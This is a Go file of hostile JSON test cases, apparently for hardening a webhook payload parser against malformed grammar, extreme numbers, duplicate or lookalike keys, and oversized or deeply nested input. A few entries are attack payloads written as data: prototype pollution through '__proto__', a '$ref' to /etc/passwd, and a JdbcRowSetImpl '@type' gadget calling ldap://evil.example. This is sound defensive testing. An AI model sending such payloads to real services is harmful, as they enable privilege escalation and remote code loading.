package main

import (
	"strconv"
	"strings"
)

func hostileGrammar() []hostile {
	return []hostile{
		{name: "null", value: literal("null"), end: invalid("type", "")},
		{name: "true", value: literal("true"), end: invalid("type", "")},
		{name: "a number alone", value: literal("3"), end: invalid("type", "")},
		{name: "a string alone", value: literal(`"MARK"`), end: invalid("type", "")},
		{name: "an empty array", value: literal("[]"), end: invalid("type", "")},
		{name: "an empty object", value: literal("{}"), end: invalid("required", "/callback_url")},
		{name: "a good payload in an array", value: around("[", good, "]"), end: invalid("type", "")},
		{name: "cut in the middle", value: func(mark string) []byte { return good(mark)[:60] }, end: invalid("syntax", "/contact")},
		{name: "two values", value: around("", good, " {}"), end: invalid("trailing", "")},
		{name: "NDJSON", value: around("{}\n", good, "\n"), end: invalid("trailing", "")},
		{name: "trailing letters", value: around("", good, "x"), end: invalid("trailing", "")},
		{name: "one brace too many", value: around("", good, "}"), end: invalid("trailing", "")},
		{name: "a NUL after the value", value: around("", good, "\x00"), end: invalid("trailing", "")},
		{name: "a line break after the value", value: around("", good, "\r\n"), end: delivered},
		{name: "white space wherever it may be", value: swapped(good, ",", " ,\r\n\t "), end: delivered},
		{name: "trailing comma in an object", value: with("extra", `{"a":1,}`), end: invalid("syntax", "/extra")},
		{name: "trailing comma in an array", value: with("extra", `[1,]`), end: invalid("syntax", "/extra/1")},
		{name: "two commas", value: with("extra", `[1,,2]`), end: invalid("syntax", "/extra/1")},
		{name: "no comma", value: with("extra", `[1 2]`), end: invalid("syntax", "/extra")},
		{name: "no colon", value: with("extra", `{"a" 1}`), end: invalid("syntax", "/extra/a")},
		{name: "mismatched brackets", value: with("extra", `[1}`), end: invalid("syntax", "/extra")},
		{name: "// comment", value: around("", good, "// MARK"), end: invalid("trailing", "")},
		{name: "/* comment */", value: around("/* MARK */", good, ""), end: invalid("syntax", "")},
		{name: "single quotes", value: swapped(good, `"`, "'"), end: invalid("syntax", "")},
		{name: "keys without quotes", value: literal(`{contact:{external_id:"MARK"}}`), end: invalid("syntax", "")},
		{name: "typographic quotes", value: literal("{“contact”:“MARK”}"), end: invalid("syntax", "")},
		{name: "a string never closed", value: literal(`{"contact":"MARK`), end: invalid("syntax", "/contact")},
		{name: "escape \\x41", value: with("extra", `"\x41"`), end: invalid("syntax", "/extra")},
		{name: "escape \\u{1F600}", value: with("extra", `"\u{1F600}"`), end: invalid("syntax", "/extra")},
		{name: "escape \\u12G4", value: with("extra", `"\u12G4"`), end: invalid("syntax", "/extra")},
		{name: "JSONP", value: around("callback(", good, ");"), end: invalid("syntax", "")},
		{name: "a guard against JSON hijacking", value: around(")]}',\n", good, ""), end: invalid("syntax", "")},
		{name: "undefined", value: with("extra", "undefined"), end: invalid("syntax", "/extra")},
		{name: "True and None, from Python", value: with("extra", "True"), end: invalid("syntax", "/extra")},
	}
}

func hostileNumbers() []hostile {
	return []hostile{
		{name: "NaN", value: with("extra", "NaN"), end: invalid("syntax", "/extra")},
		{name: "Infinity", value: with("extra", "Infinity"), end: invalid("syntax", "/extra")},
		{name: "-Infinity", value: with("extra", "-Infinity"), end: invalid("syntax", "/extra")},
		{name: "0x1F", value: with("extra", "0x1F"), end: invalid("syntax", "")},
		{name: "007", value: with("extra", "007"), end: invalid("syntax", "")},
		{name: "+1", value: with("extra", "+1"), end: invalid("syntax", "/extra")},
		{name: "1.", value: with("extra", "1."), end: invalid("syntax", "/extra")},
		{name: ".5", value: with("extra", ".5"), end: invalid("syntax", "/extra")},
		{name: "1_000", value: with("extra", "1_000"), end: invalid("syntax", "")},
		{name: "1e", value: with("extra", "1e"), end: invalid("syntax", "/extra")},
		{name: "digits that are not ASCII", value: with("extra", "٣"), end: invalid("syntax", "/extra")},
		{name: "-0", value: with("extra", "-0"), end: delivered},
		{name: "1e308", value: with("extra", "1e308"), end: delivered},
		{name: "9e308, which no float64 holds", value: with("extra", "9e308"), end: delivered},
		{name: "1e400", value: with("extra", "1e400"), end: invalid("numberExponent", "/extra")},
		{name: "1e-400", value: with("extra", "1e-400"), end: invalid("numberExponent", "/extra")},
		{name: "1e999999999", value: with("extra", "1e999999999"), end: invalid("numberExponent", "/extra")},
		{name: "1e999999999 alone", value: literal("1e999999999"), end: invalid("numberExponent", "")},
		{name: "priority 1e999999999", value: with("priority", "1e999999999"), end: invalid("numberExponent", "/priority")},
		{name: "64 characters", value: with("extra", strings.Repeat("9", 64)), end: delivered},
		{name: "65 characters", value: with("extra", strings.Repeat("9", 65)), end: invalid("numberLength", "/extra")},
		{name: "10,000 digits", value: with("extra", strings.Repeat("9", 10_000)), end: invalid("numberLength", "/extra")},
		{name: "beyond 2⁵³", value: with("extra", "9007199254740993"), end: delivered},
	}
}

func hostileKeys() []hostile {
	return []hostile{
		{name: "a key twice, at the top", value: swapped(good, `"priority":3`, `"priority":3,"priority":5`), end: invalid("duplicateKey", "/priority")},
		{name: "a key twice, inside", value: with("contact", `{"external_id":"MARK","external_id":"x"}`), end: invalid("duplicateKey", "/contact/external_id")},
		{name: "a key twice, in an unknown field", value: with("extra", `[{"a":1,"a":1}]`), end: invalid("duplicateKey", "/extra/0/a")},
		{name: "a key twice, once with an escape", value: with(`pr\u0069ority`, "4"), end: invalid("duplicateKey", "/priority")},
		{name: "keys that differ by case", value: with("Priority", "9", "PRIORITY", "9"), end: delivered},
		{name: "Priority instead of priority", value: with("priority", "", "Priority", "3"), end: invalid("required", "/priority")},
		{name: "priority with a Cyrillic letter", value: with("priority", "", "рriority", "3"), end: invalid("required", "/priority")},
		{name: "keys that differ by Unicode normalisation", value: with("\u00e9", "1", "e\u0301", "2"), end: delivered},
		{name: "keys that differ by an invisible character", value: with("priority\u200b", "9"), end: delivered},
		{name: "__proto__", value: with("__proto__", `{"isAdmin":true,"priority":9}`), end: delivered},
		{name: "constructor.prototype", value: with("constructor", `{"prototype":{"isAdmin":true}}`), end: delivered},
		{name: "an empty key", value: with("", "1"), end: delivered},
		{name: "keys with / and ~", value: with("a/b~c", `{"~1":1,"/":2}`), end: delivered},
		{name: "a fault below a key with / and ~", value: with("a/b~c", "NaN"), end: invalid("syntax", "/a~1b~0c")},
		{name: "a key with line breaks and colours", value: with(`\r\n\u001b[31mMARK`, "NaN"), end: invalid("syntax", "/\r\n\x1b[31mMARK")},
		{name: "a key of 512 KiB", value: with(strings.Repeat("k", 512<<10), "1"), end: delivered},
		{name: "a fault below a key of 512 KiB", value: with(strings.Repeat("k", 512<<10), "NaN"), end: invalid("syntax", "")},
		{name: "100,000 unknown keys", value: with(numberedKeys(100_000)...), end: delivered},
		{name: "$schema in the payload", value: with("$schema", `"https://evil.example/schema.json"`), end: delivered},
		{name: "$ref in the payload", value: with("$ref", `"file:///etc/passwd"`, "extra", `{"$ref":"#"}`), end: delivered},
		{name: "$ref instead of contact", value: with("contact", `{"$ref":"#/extra"}`), end: invalid("required", "/contact/channel")},
		{name: "@type, as deserializers obey it", value: with("@type", `"com.sun.rowset.JdbcRowSetImpl"`, "dataSourceName", `"ldap://evil.example/MARK"`), end: delivered},
	}
}

func hostileSizes() []hostile {
	return []hostile{
		{name: "64 levels of arrays", value: with("extra", strings.Repeat("[", 63)+strings.Repeat("]", 63)), end: delivered},
		{name: "65 levels of arrays", value: with("extra", strings.Repeat("[", 64)+strings.Repeat("]", 64)), end: invalid("depth", "/extra"+strings.Repeat("/0", 63))},
		{name: "64 levels of objects", value: with("extra", strings.Repeat(`{"a":`, 63)+"1"+strings.Repeat("}", 63)), end: delivered},
		{name: "65 levels of objects", value: with("extra", strings.Repeat(`{"a":`, 64)+"1"+strings.Repeat("}", 64)), end: invalid("depth", "/extra"+strings.Repeat("/a", 63))},
		{name: "100,000 levels of arrays", value: literal(strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000)), end: invalid("depth", strings.Repeat("/0", 64))},
		{name: "100,000 levels of objects", value: literal(strings.Repeat(`{"a":`, 100_000)), end: invalid("depth", strings.Repeat("/a", 64))},
		{name: "1 MiB of [", value: literal(strings.Repeat("[", 1<<20)), end: invalid("depth", strings.Repeat("/0", 64))},
		{name: "1 MiB of {", value: literal(strings.Repeat("{", 1<<20)), end: invalid("syntax", "")},
		{name: `1 MiB of "`, value: literal(strings.Repeat(`"`, 1<<20)), end: invalid("trailing", "")},
		{name: `1 MiB of \`, value: literal(strings.Repeat(`\`, 1<<20)), end: invalid("syntax", "")},
		{name: `1 MiB of \"`, value: literal(`"` + strings.Repeat(`\"`, 1<<19-1) + `"`), end: invalid("type", "")},
		{name: "1 MiB of digits", value: literal(strings.Repeat("9", 1<<20)), end: invalid("numberLength", "")},
		{name: "1 MiB of spaces", value: literal(strings.Repeat(" ", 1<<20)), end: invalid("empty", "")},
		{name: "1 MiB of the control character U+0001", value: literal(strings.Repeat("\x01", 1<<20)), end: invalid("syntax", "")},
		{name: "1 MiB of one letter as an id", value: around(`{"contact":{"external_id":"MARK`, literal(strings.Repeat("a", 1<<20-64)), `"}}`), end: invalid("required", "/callback_url")},
		{name: "exactly 1 MiB", value: sized(1 << 20), end: delivered},
		{name: "1 MiB and a byte", value: sized(1<<20 + 1), end: invalid("size", "")},
		{name: "5 MiB", value: sized(5 << 20), end: invalid("size", "")},
		{name: "500,000 numbers as tags", value: with("tags", "["+strings.Repeat("0,", 499_999)+"0]"), end: invalid("maxItems", "/tags")},
		{name: "1,000,000 strings as tags", value: with("tags", "["+strings.Repeat(`"",`, 999_999)+`""]`), end: invalid("size", "")},
		{name: "200,000 empty objects in an unknown field", value: with("extra", "["+strings.Repeat("{},", 199_999)+"{}]"), end: delivered},
	}
}

// numberedKeys names n unknown members, each with its JSON.
func numberedKeys(n int) []string {
	list := make([]string, 0, 2*n)
	for i := range n {
		list = append(list, strconv.Itoa(100_000 + i)[1:], "0")
	}
	return list
}
